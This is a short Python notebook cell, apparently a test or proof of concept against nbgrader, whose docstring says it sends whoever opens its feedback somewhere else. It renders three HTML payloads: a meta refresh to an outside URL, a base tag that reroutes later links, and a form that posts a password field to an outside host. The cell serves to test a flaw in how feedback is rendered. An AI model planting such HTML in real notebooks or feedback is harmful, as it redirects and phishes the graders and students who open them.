"""Sends whoever opens its feedback somewhere else, at once or with the next link or form.

On stock nbgrader: it acts on its reader.
"""

# %%
from IPython.display import HTML, display

display(HTML("<meta http-equiv='refresh' content='0;url=https://example.org/{marker}'>"))
display(HTML("<base href='https://example.org/{marker}/'>"))
display(HTML("<form action='https://example.org/{marker}'><input name='password'></form>"))
